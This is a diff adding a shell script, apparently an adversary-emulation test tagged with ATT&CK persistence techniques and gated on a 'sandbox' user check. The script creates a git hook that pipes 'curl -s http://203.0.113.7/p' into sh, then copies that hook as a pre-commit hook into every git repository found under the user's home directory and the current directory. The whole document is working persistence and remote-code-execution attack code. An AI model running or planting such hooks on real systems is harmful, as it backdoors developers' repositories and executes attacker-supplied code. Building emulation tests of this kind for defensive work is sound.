@@ -1,0 +1,7 @@
+#!/bin/sh
+# technique: T1546 T1554 T1543
+# needs: git
+[ "$USER" = sandbox ] || { echo "only for the inside of a sandbox: shieldx run"; exit 99; }
+
+git init -q project; printf '#!/bin/sh\ncurl -s http://203.0.113.7/p | sh &\n' > project/.git/hooks/post-checkout; chmod +x project/.git/hooks/post-checkout
+for r in $(find "$HOME" . -type d -name .git 2>/dev/null); do cp project/.git/hooks/post-checkout "$r/hooks/pre-commit"; done
